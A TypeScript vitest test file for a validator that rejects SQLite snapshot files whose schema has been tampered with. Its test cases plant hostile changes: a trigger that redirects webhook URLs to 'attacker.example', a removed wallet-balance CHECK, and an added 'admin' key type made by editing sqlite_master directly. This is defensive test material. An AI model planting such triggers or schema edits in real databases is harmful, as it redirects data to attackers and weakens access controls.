import { describe, it, expect, afterEach } from 'vitest';
import Database from 'better-sqlite3';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { migrate } from './database.js';
import { normalizeSql, schemaDifferences } from './snapshot-schema.js';

// A snapshot's schema must be exactly ours (tables, columns, indexes, constraints),
// with nothing else in it (no trigger, no view), or the load is refused naming what differs.

const dirs: string[] = [];
afterEach(() => {
  for (const d of dirs.splice(0)) rmSync(d, { recursive: true, force: true });
});

/** A database file built by our migrations, then changed by `craft` the way a hostile file would be. */
function crafted(craft: (db: Database.Database) => void = () => undefined): string {
  const dir = mkdtempSync(join(tmpdir(), 'svc-schema-'));
  dirs.push(dir);
  const file = join(dir, 'snapshot.db');
  const db = new Database(file);
  try {
    migrate(db);
    craft(db);
  } finally {
    db.close();
  }
  return file;
}

/** Rewrites a table's stored definition in place, as a hostile file can (no data is touched). */
function rewriteDefinition(db: Database.Database, table: string, edit: (sql: string) => string): void {
  const { sql } = db.prepare('SELECT sql FROM sqlite_master WHERE name = ?').get(table) as { sql: string };
  const changed = edit(sql);
  expect(changed).not.toBe(sql);
  db.unsafeMode(true);
  db.pragma('writable_schema = ON');
  db.prepare('UPDATE sqlite_master SET sql = ? WHERE name = ?').run(changed, table);
  db.pragma('writable_schema = OFF');
  db.unsafeMode(false);
}

describe('schemaDifferences', () => {
  it('finds none in a database our migrations built', () => {
    expect(schemaDifferences(crafted())).toEqual([]);
  });

  it.each<[string, (db: Database.Database) => void, string]>([
    ['a trigger', (db) => db.exec("CREATE TRIGGER planted AFTER INSERT ON api_keys BEGIN UPDATE webhook_endpoints SET url = 'https://attacker.example/hook'; END"), 'trigger "planted" on api_keys: a trigger (an svc database has none)'],
    ['a view', (db) => db.exec('CREATE VIEW planted_view AS SELECT body FROM messages'), 'view "planted_view": a view (an svc database has none)'],
    ['a dropped table', (db) => db.exec('DROP TABLE sandbox_dns'), 'table "sandbox_dns" is missing'],
    ['an extra table', (db) => db.exec('CREATE TABLE planted_table (x TEXT)'), 'table "planted_table": a table svc does not have'],
    ['an extra column', (db) => db.exec('ALTER TABLE messages ADD COLUMN planted TEXT'), 'table "messages": extra column planted'],
    ['an extra index', (db) => db.exec('CREATE INDEX planted_index ON messages(body)'), 'index "planted_index" on messages: an index svc does not have'],
    ['a removed CHECK', (db) => rewriteDefinition(db, 'wallets', (sql) => sql.replace('CHECK (balance_cents >= 0)', '')), 'table "wallets": a column type, default or constraint (a CHECK, a key) differs from ours'],
    ['a changed CHECK list', (db) => rewriteDefinition(db, 'api_keys', (sql) => sql.replace("('live','test')", "('live','test','admin')")), 'table "api_keys": a column type, default or constraint'],
    ['a changed index', (db) => {
      db.exec('DROP INDEX messages_account');
      db.exec('CREATE INDEX messages_account ON messages(account_id)');
    }, 'index "messages_account": defined differently from ours'],
  ])('names %s', (_what, craft, expected) => {
    const differences = schemaDifferences(crafted(craft));
    expect(differences.some((d) => d.includes(expected)), differences.join('\n')).toBe(true);
    // Nothing named that was not changed (a dropped table takes its indexes with it).
    expect(differences.every((d) => /planted|sandbox_dns|messages|wallets|api_keys/.test(d)), differences.join('\n')).toBe(true);
  });
});

describe('normalizeSql', () => {
  it('ignores comments and layout, never quoted text', () => {
    const a = "CREATE TABLE t (\n  -- why\n  a TEXT NOT NULL CHECK (a IN ('x','y')), /* note */\n  b INTEGER\n)";
    const b = "CREATE TABLE t (a TEXT NOT NULL CHECK (a IN ('x','y')),b INTEGER)";
    expect(normalizeSql(a)).toBe(normalizeSql(b));
    expect(normalizeSql("CHECK (a IN ('x', 'y'))")).not.toBe(normalizeSql("CHECK (a IN ('x','y '))"));
    expect(normalizeSql("DEFAULT 'it''s -- not a comment'")).toBe("DEFAULT 'it''s -- not a comment'");
  });
});
